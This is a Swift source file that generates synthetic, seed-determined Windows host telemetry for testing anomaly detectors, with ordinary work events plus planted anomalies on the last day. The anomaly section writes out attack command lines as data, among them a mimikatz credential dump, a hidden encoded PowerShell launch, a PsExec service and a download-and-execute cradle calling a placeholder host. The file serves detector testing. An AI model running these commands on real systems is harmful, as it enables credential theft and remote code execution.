import Learning

/// Days of ordinary work on a few hosts, the same for the same seed, with or without one strange thing of each sort.
///
/// Small and regular on purpose: it shows that detectors stay quiet and that they speak, not how well they work.
public struct FleetScript: Sendable {
  /// Hosts in the fleet.
  public var hosts = 12
  /// Days of work.
  public var days = 14
  /// Whether strange things are planted on the last day.
  public var hasAnomalies = false
  private var generator: Xoshiro256

  /// A fleet whose events depend on the seed alone.
  public init(seed: UInt64, hosts: Int = 12, days: Int = 14, hasAnomalies: Bool = false) {
    generator = Xoshiro256(seed: seed)
    self.hosts = hosts
    self.days = days
    self.hasAnomalies = hasAnomalies
  }

  private static let programs: [(parent: String, name: String, line: String)] = [
    ("explorer.exe", "outlook.exe", "outlook.exe /recycle"),
    ("explorer.exe", "winword.exe", #"winword.exe /n "C:\Users\USER\Documents\report17.docx" /o """#),
    ("explorer.exe", "chrome.exe", "chrome.exe --profile-directory=Default"),
    ("chrome.exe", "chrome.exe", "chrome.exe --type=renderer --client-id=4711"),
    ("services.exe", "svchost.exe", "svchost.exe -k netsvcs -p -s Schedule"),
    ("winword.exe", "splwow64.exe", "splwow64.exe 8192"),
    ("svchost.exe", "taskhostw.exe", "taskhostw.exe"),
    ("svchost.exe", "powershell.exe", #"powershell.exe -NoProfile -File C:\ProgramData\inventory\run.ps1"#),
  ]

  /// The events in order of time.
  public mutating func events() -> [ScriptedEvent] {
    var events: [ScriptedEvent] = []
    for day in 0..<days {
      for host in 0..<hosts {
        for hour in 8..<18 { events += hourOfWork(day, hour, host) }
      }
      if day % 7 == 3 { for host in 0..<hosts { events += maintenance(day, host) } }
    }
    if hasAnomalies { events += anomalies() }
    return events.sorted { ($0.time ?? 0) < ($1.time ?? 0) }
  }

  private mutating func hourOfWork(_ day: Int, _ hour: Int, _ host: Int) -> [ScriptedEvent] {
    var events: [ScriptedEvent] = []
    for _ in 0..<4 {
      let pick = Self.programs[Int(generator.next() % UInt64(Self.programs.count))]
      events.append(process(second(day, hour), host, pick.parent, pick.name, pick.line))
    }
    events.append(logon(second(day, hour), host, "user\(host)", hour == 8 ? "2" : "7", nil))
    events.append(logon(second(day, hour), host, "svc-backup", "3", "10.0.0.5"))
    events.append(script(second(day, hour), host, "Get-Inventory -Host 'h\(host)' | Export-Csv out\(day).csv"))
    return events
  }

  private func maintenance(_ day: Int, _ host: Int) -> [ScriptedEvent] {
    (0..<12).flatMap { number in
      [
        service(
          at(day, 2 + number, 100), host, "UpdateService\(number)", #"C:\Windows\System32\svchost.exe -k netsvcs"#),
        task(at(day, 2 + number, 200), host, #"\Vendor\Update\#(number % 6)"#),
      ]
    }
  }

  private func anomalies() -> [ScriptedEvent] {
    let day = days - 1
    let (ann, bob, eve) = (3 % hosts, 7 % hosts, 5 % hosts)
    return [
      process(
        at(day, 12, 1), ann, "winword.exe", "powershell.exe",
        "powershell.exe -w hidden -enc " + String(repeating: "aBc1", count: 20)),
      process(at(day, 12, 60), ann, "powershell.exe", "mimikatz.exe", "mimikatz.exe sekurlsa::logonpasswords exit"),
      process(
        at(day, 12, 90), ann, "explorer.exe", "svchost.exe", "svchost.exe",
        folder: #"C:\Users\user3\AppData\Local\Temp"#),
      process(
        at(day, 12, 95), ann, "explorer.exe", "chrome.exe", "chrome.exe --remote-debugging-port=9222 --load-extension=x"
      ),
      logon(at(day, 13, 1), bob, "svc-backup", "10", "10.9.9.9"),
      logon(at(day, 13, 9), eve, "user\(ann)", "3", "10.0.0.103"),
      service(at(day, 14, 1), bob, "PSEXESVC", #"C:\Windows\PSEXESVC.exe"#),
      task(at(day, 14, 9), bob, #"\evil"#),
      script(at(day, 14, 20), bob, "$a = New-Object Net.WebClient; Invoke-Expression $a.DownloadString('http://x/y')"),
    ]
  }

  private mutating func second(_ day: Int, _ hour: Int) -> Double { at(day, hour, Double(generator.next() % 3_600)) }

  private func at(_ day: Int, _ hour: Int, _ second: Double) -> Double { Double(day * 86_400 + hour * 3_600) + second }

  private func base(_ host: Int) -> [String: String] { ["host.name": "WS\(host)", "host.os.type": "windows"] }

  private func process(
    _ second: Double, _ host: Int, _ parent: String, _ name: String, _ line: String,
    folder: String = #"C:\Windows\System32"#
  ) -> ScriptedEvent {
    let user = "user\(host)"
    let fields = [
      "event.category": "process", "event.type": "start", "process.name": name, "process.parent.name": parent,
      "process.executable": folder + "\\" + name, "process.command_line": line.replacing("USER", with: user),
      "user.name": user, "user.domain": "CORP", "process.entity_id": "\(host)-\(Int(second * 10))-\(name)",
      "process.parent.entity_id": "\(host)-\(parent)",
    ]
    return ScriptedEvent(second: second, fields.merging(base(host)) { a, _ in a })
  }

  private func logon(_ second: Double, _ host: Int, _ user: String, _ type: String, _ source: String?) -> ScriptedEvent
  {
    var fields = [
      "event.category": "authentication", "event.type": "start", "event.outcome": "success", "user.name": user,
      "user.domain": "CORP", "winlog.event_data.LogonType": type, "event.code": "4624",
    ]
    if let source { fields["source.ip"] = source }
    return ScriptedEvent(second: second, fields.merging(base(host)) { a, _ in a })
  }

  private func service(_ second: Double, _ host: Int, _ name: String, _ image: String) -> ScriptedEvent {
    let fields = [
      "event.code": "7045", "winlog.event_data.ServiceName": name, "winlog.event_data.ImagePath": image,
      "event.category": "configuration", "event.type": "creation",
    ]
    return ScriptedEvent(second: second, fields.merging(base(host)) { a, _ in a })
  }

  private func task(_ second: Double, _ host: Int, _ name: String) -> ScriptedEvent {
    let fields = ["event.code": "4698", "winlog.event_data.TaskName": name, "event.category": "configuration"]
    return ScriptedEvent(second: second, fields.merging(base(host)) { a, _ in a })
  }

  private func script(_ second: Double, _ host: Int, _ text: String) -> ScriptedEvent {
    let fields = ["event.code": "4104", "powershell.file.script_block_text": text, "event.category": "process"]
    return ScriptedEvent(second: second, fields.merging(base(host)) { a, _ in a })
  }
}
